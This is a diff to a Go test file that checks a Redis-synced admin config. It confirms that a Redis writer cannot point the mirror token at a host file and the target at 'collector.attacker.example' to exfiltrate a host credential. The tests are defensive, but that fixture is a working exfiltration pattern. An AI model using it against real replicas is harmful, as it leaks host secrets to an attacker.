@@ -2,10 +2,12 @@ package admin
 
 import (
 	"context"
+	"encoding/json"
 	"fmt"
 	"net"
 	"os"
 	"os/exec"
+	"path/filepath"
 	"strconv"
 	"strings"
 	"sync"
@@ -308,4 +310,75 @@ func TestRedisConcurrentCreationsOnTwoReplicasAllLand(t *testing.T) {
 	eventually(t, 2*time.Second, "both replicas hold every user", func() bool {
 		return len(a.store.Load().Users) == 2*each && len(b.store.Load().Users) == 2*each
 	})
+}
+
+// Whoever can write to Redis cannot make the replicas read a host file or
+// variable: a secret reference in the stored document is taken only where
+// the replica's own config holds it at the same entry and address. A
+// writer set mirror.auth_token to file:<any host file> with a
+// target_address of its own, and every replica read the file and sent it
+// as the bearer token of every mirrored request.
+func TestARedisWriterCannotMakeReplicasReadHostFiles(t *testing.T) {
+	rs := startRedis(t)
+	e := newEnv(t, envOpts{state: rs.url()})
+	hostFile := filepath.Join(t.TempDir(), "service-account-token")
+	if err := os.WriteFile(hostFile, []byte("host-only-credential-4711"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	v := writeRedisDoc(t, e, rs, func(doc map[string]any) {
+		doc["mirror"] = map[string]any{"enabled": true, "target_address": "http://collector.attacker.example",
+			"sampling_ratio": 100, "auth_token": "file:" + hostFile}
+	})
+	time.Sleep(600 * time.Millisecond) // three sync intervals
+	if m := e.store.Load().Mirror; m.AuthToken.Reveal() == "host-only-credential-4711" || m.Enabled || e.store.Version() >= v {
+		t.Fatalf("a document written to Redis was taken (version %d of %d): mirror %v to %s", e.store.Version(), v, m.Enabled, m.TargetAddress)
+	}
+}
+
+// A reference the replica's config file holds, at the same entry and
+// address, goes through Redis as a reference and is taken back: replicas
+// sharing a config file share its references.
+func TestAReferenceTheConfigFileHoldsGoesThroughRedis(t *testing.T) {
+	rs := startRedis(t)
+	tok := filepath.Join(t.TempDir(), "mirror-token")
+	if err := os.WriteFile(tok, []byte("mirror-token-0815"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	file := `{"mirror": {"enabled": true, "target_address": "http://127.0.0.1:9", "sampling_ratio": 1, "auth_token": "file:` + tok + `"}}`
+	e := newEnv(t, envOpts{state: rs.url(), file: file})
+	v := writeRedisDoc(t, e, rs, func(doc map[string]any) {
+		doc["mirror"].(map[string]any)["sampling_ratio"] = json.Number("2")
+	})
+	deadline := time.Now().Add(3 * time.Second)
+	for time.Now().Before(deadline) && e.store.Version() < v {
+		time.Sleep(20 * time.Millisecond)
+	}
+	if m := e.store.Load().Mirror; e.store.Version() < v || m.SamplingRatio != 2 || m.AuthToken.Reveal() != "mirror-token-0815" {
+		t.Fatalf("version %d of %d: sampling %v, token set %v", e.store.Version(), v, m.SamplingRatio, m.AuthToken.IsSet())
+	}
+}
+
+// writeRedisDoc writes e's current document, edited by edit, to Redis as
+// the next version, as another replica (or anyone who can write to Redis)
+// would, and announces it; it returns the version.
+func writeRedisDoc(t *testing.T, e *env, rs *redisServer, edit func(map[string]any)) uint64 {
+	t.Helper()
+	cfg, v := e.store.Current()
+	data, err := e.a.seal.encodeSealed(cfg)
+	if err != nil {
+		t.Fatal(err)
+	}
+	doc, err := decodeDoc(data)
+	if err != nil {
+		t.Fatal(err)
+	}
+	edit(doc)
+	out, _ := json.Marshal(doc)
+	c := redis.NewClient(&redis.Options{Addr: rs.addr()})
+	defer c.Close()
+	if err := c.HSet(context.Background(), "infera:admin:data", "doc", string(out), "version", v+1).Err(); err != nil {
+		t.Fatal(err)
+	}
+	c.Publish(context.Background(), "infera:admin:changes", v+1)
+	return v + 1
 }
